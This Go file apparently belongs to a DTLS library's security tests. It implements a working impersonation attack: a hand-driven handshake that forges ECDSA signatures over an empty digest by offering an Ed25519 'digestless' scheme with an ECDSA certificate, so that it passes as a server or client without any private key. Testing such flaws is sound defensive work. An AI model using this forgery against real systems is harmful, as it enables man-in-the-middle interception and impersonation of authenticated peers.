// Copyright 2026 The Runnel Authors
// SPDX-License-Identifier: Apache-2.0

package dtlsx

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/asn1"
	"encoding/binary"
	"errors"
	"fmt"
	"math/big"

	"github.com/pion/dtls/v2/pkg/crypto/ciphersuite"
	"github.com/pion/dtls/v2/pkg/crypto/clientcertificate"
	ecdh "github.com/pion/dtls/v2/pkg/crypto/elliptic"
	"github.com/pion/dtls/v2/pkg/crypto/hash"
	"github.com/pion/dtls/v2/pkg/crypto/prf"
	"github.com/pion/dtls/v2/pkg/crypto/signature"
	"github.com/pion/dtls/v2/pkg/crypto/signaturehash"
	"github.com/pion/dtls/v2/pkg/protocol"
	"github.com/pion/dtls/v2/pkg/protocol/extension"
	"github.com/pion/dtls/v2/pkg/protocol/handshake"
	"github.com/pion/dtls/v2/pkg/protocol/recordlayer"
)

// attacker plays one side of a handshake by hand. It knows the public certificate of the peer that it claims to be,
// and no private key of anybody.
type attacker struct {
	cert []byte // whose owner we claim to be; nil shows none
	in   chan []byte
	out  func(b []byte)

	client     bool
	transcript []byte
	recordSeq  [2]uint64
	messageSeq uint16
	early      []record // encrypted records that came in before we had keys
	mine       handshake.Random
	theirs     handshake.Random
	key        *ecdh.Keypair
	gcm        *ciphersuite.GCM
	master     []byte
}

func newAttacker(client bool, cert []byte) *attacker {
	a := &attacker{client: client, cert: cert, in: make(chan []byte, 64)}
	if err := a.mine.Populate(); err != nil {
		panic(err)
	}
	key, err := ecdh.GenerateKeypair(ecdh.X25519)
	if err != nil {
		panic(err)
	}
	a.key = key
	return a
}

// forge makes a signature that an ECDSA verifier accepts for the public key of cert over an empty digest. With e = 0
// the verifier computes u₁ = 0, u₂ = r·s⁻¹ and accepts if the x coordinate of u₂·Q is r. So choose u₂ = k freely, let
// r be the x coordinate of k·Q, and s = r·k⁻¹.
func forge(cert []byte) []byte {
	c, err := x509.ParseCertificate(cert)
	if err != nil {
		panic(err)
	}
	pub := c.PublicKey.(*ecdsa.PublicKey)
	curve := elliptic.P256()
	n := curve.Params().N
	k, err := rand.Int(rand.Reader, n)
	if err != nil {
		panic(err)
	}
	x, _ := curve.ScalarMult(pub.X, pub.Y, k.Bytes()) //nolint:staticcheck // an attack on points has no other API
	r := new(big.Int).Mod(x, n)
	s := new(big.Int).Mul(r, new(big.Int).ModInverse(k, n))
	sig, err := asn1.Marshal(struct{ R, S *big.Int }{r, s.Mod(s, n)})
	if err != nil {
		panic(err)
	}
	return sig
}

// digestless is the signature scheme of the attack: Ed25519, which has no digest, for an ECDSA certificate.
var digestless = signaturehash.Algorithm{Hash: hash.Ed25519, Signature: signature.Ed25519}

func (a *attacker) record(typ protocol.ContentType, epoch uint16, body []byte) []byte {
	h := recordlayer.Header{
		ContentType: typ, ContentLen: uint16(len(body)), Version: protocol.Version1_2, Epoch: epoch,
		SequenceNumber: a.recordSeq[epoch],
	}
	a.recordSeq[epoch]++
	raw, err := h.Marshal()
	if err != nil {
		panic(err)
	}
	raw = append(raw, body...)
	if epoch == 0 {
		return raw
	}
	if raw, err = a.gcm.Encrypt(&recordlayer.RecordLayer{Header: h}, raw); err != nil {
		panic(err)
	}
	return raw
}

func (a *attacker) send(epoch uint16, msgs ...handshake.Message) {
	var out []byte
	for _, m := range msgs {
		h := handshake.Handshake{Message: m}
		h.Header.MessageSequence = a.messageSeq
		a.messageSeq++
		raw, err := h.Marshal()
		if err != nil {
			panic(err)
		}
		a.transcript = append(a.transcript, raw...)
		out = append(out, a.record(protocol.ContentTypeHandshake, epoch, raw)...)
	}
	a.out(out)
}

// receive returns the next handshake message of one of the types, in order of arrival. The victim sends each message
// whole and in a record of its own.
func (a *attacker) receive(ctx context.Context, types ...handshake.Type) (map[handshake.Type][]byte, error) {
	got := make(map[handshake.Type][]byte)
	for len(got) < len(types) {
		select {
		case <-ctx.Done():
			return nil, ctx.Err()
		case b := <-a.in:
			for _, r := range records(b) {
				switch {
				case r.contentType() == typeAlert:
					return nil, errors.New("the victim sent an alert")
				case r.contentType() != typeHandshake:
				case r.epoch() == 1:
					a.early = append(a.early, r)
				default:
					typ := handshake.Type(r.body()[0])
					if _, again := got[typ]; again || len(got) == len(types) || typ != types[len(got)] {
						continue // a retransmission, or a message that the caller does not expect
					}
					got[typ] = r.body()[messageHeader:]
					a.transcript = append(a.transcript, r.body()...)
				}
			}
		}
	}
	return got, nil
}

// derive makes the keys, with the extended master secret over the transcript as it is.
func (a *attacker) derive(public []byte) {
	pre, err := prf.PreMasterSecret(public, a.key.PrivateKey, ecdh.X25519)
	if err != nil {
		panic(err)
	}
	sum := sha256.Sum256(a.transcript)
	if a.master, err = prf.ExtendedMasterSecret(pre, sum[:], sha256.New); err != nil {
		panic(err)
	}
	c, s := a.theirs.MarshalFixed(), a.mine.MarshalFixed()
	if a.client {
		c, s = s, c
	}
	keys, err := prf.GenerateEncryptionKeys(a.master, c[:], s[:], 0, 16, 4, sha256.New)
	if err != nil {
		panic(err)
	}
	if a.client {
		a.gcm, err = ciphersuite.NewGCM(keys.ClientWriteKey, keys.ClientWriteIV, keys.ServerWriteKey, keys.ServerWriteIV)
	} else {
		a.gcm, err = ciphersuite.NewGCM(keys.ServerWriteKey, keys.ServerWriteIV, keys.ClientWriteKey, keys.ClientWriteIV)
	}
	if err != nil {
		panic(err)
	}
}

func (a *attacker) finish(verify func(master, transcript []byte, h prf.HashFunc) ([]byte, error)) {
	data, err := verify(a.master, a.transcript, sha256.New)
	if err != nil {
		panic(err)
	}
	a.out(a.record(protocol.ContentTypeChangeCipherSpec, 0, []byte{1}))
	a.send(1, &handshake.MessageFinished{VerifyData: data})
}

var (
	suiteID     = uint16(0xC02B) // TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256
	compression = &protocol.CompressionMethod{}
	extensions  = []extension.Extension{
		&extension.UseExtendedMasterSecret{Supported: true},
		&extension.SupportedPointFormats{PointFormats: []ecdh.CurvePointFormat{ecdh.CurvePointFormatUncompressed}},
	}
)

// impersonateServer plays the server. It returns nil when the victim has finished its part.
func (a *attacker) impersonateServer(ctx context.Context) error {
	hello, err := a.receive(ctx, handshake.TypeClientHello)
	if err != nil {
		return err
	}
	random := func(b []byte) { a.theirs.UnmarshalFixed([32]byte(b[2:34])) } // after the version
	random(hello[handshake.TypeClientHello])
	a.send(0,
		&handshake.MessageServerHello{
			Version: protocol.Version1_2, Random: a.mine, CipherSuiteID: &suiteID,
			CompressionMethod: compression, Extensions: extensions,
		},
		&handshake.MessageCertificate{Certificate: [][]byte{a.cert}},
		&handshake.MessageServerKeyExchange{
			EllipticCurveType: ecdh.CurveTypeNamedCurve, NamedCurve: ecdh.X25519,
			PublicKey: a.key.PublicKey, HashAlgorithm: digestless.Hash, SignatureAlgorithm: digestless.Signature,
			Signature: forge(a.cert),
		},
		&handshake.MessageCertificateRequest{
			CertificateTypes:        []clientcertificate.Type{clientcertificate.ECDSASign},
			SignatureHashAlgorithms: []signaturehash.Algorithm{{Hash: hash.SHA256, Signature: signature.ECDSA}, digestless},
		},
		&handshake.MessageServerHelloDone{},
	)
	msgs, err := a.receive(ctx, handshake.TypeCertificate, handshake.TypeClientKeyExchange, handshake.TypeCertificateVerify)
	if err != nil {
		return err
	}
	// The session hash of RFC 7627 ends with ClientKeyExchange.
	verify := msgs[handshake.TypeCertificateVerify]
	all := a.transcript
	a.transcript = all[:len(all)-messageHeader-len(verify)]
	a.derive(msgs[handshake.TypeClientKeyExchange][1:])
	a.transcript = all
	for len(a.early) == 0 {
		if _, err := a.receive(ctx, handshake.TypeFinished); err != nil && len(a.early) == 0 {
			return err
		}
	}
	finished, err := decrypt(a.gcm, a.early[0])
	if err != nil {
		return fmt.Errorf("client's Finished: %w", err)
	}
	a.transcript = append(a.transcript, record(finished).body()...)
	a.finish(prf.VerifyDataServer)
	return nil
}

// impersonateClient plays the client. It returns nil when it has said all it has to say.
func (a *attacker) impersonateClient(ctx context.Context) error {
	a.send(0, &handshake.MessageClientHello{
		Version: protocol.Version1_2, Random: a.mine, CipherSuiteIDs: []uint16{suiteID},
		CompressionMethods: []*protocol.CompressionMethod{compression},
		Extensions: append([]extension.Extension{
			&extension.SupportedSignatureAlgorithms{SignatureHashAlgorithms: []signaturehash.Algorithm{
				{Hash: hash.SHA256, Signature: signature.ECDSA}, digestless,
			}},
			&extension.SupportedEllipticCurves{EllipticCurves: []ecdh.Curve{ecdh.X25519}},
		}, extensions...),
	})
	msgs, err := a.receive(ctx, handshake.TypeServerHello, handshake.TypeCertificate, handshake.TypeServerKeyExchange,
		handshake.TypeCertificateRequest, handshake.TypeServerHelloDone)
	if err != nil {
		return err
	}
	a.theirs.UnmarshalFixed([32]byte(msgs[handshake.TypeServerHello][2:34]))
	exchange := msgs[handshake.TypeServerKeyExchange]
	if curve := binary.BigEndian.Uint16(exchange[1:]); curve != uint16(ecdh.X25519) {
		return fmt.Errorf("server took curve %d", curve)
	}
	public := exchange[4 : 4+int(exchange[3])]

	if a.cert != nil {
		a.send(0, &handshake.MessageCertificate{Certificate: [][]byte{a.cert}})
	}
	a.send(0, &handshake.MessageClientKeyExchange{PublicKey: a.key.PublicKey})
	a.derive(public)
	if a.cert != nil {
		a.send(0, &handshake.MessageCertificateVerify{
			HashAlgorithm:      digestless.Hash,
			SignatureAlgorithm: digestless.Signature, Signature: forge(a.cert),
		})
	}
	a.finish(prf.VerifyDataClient)
	return nil
}
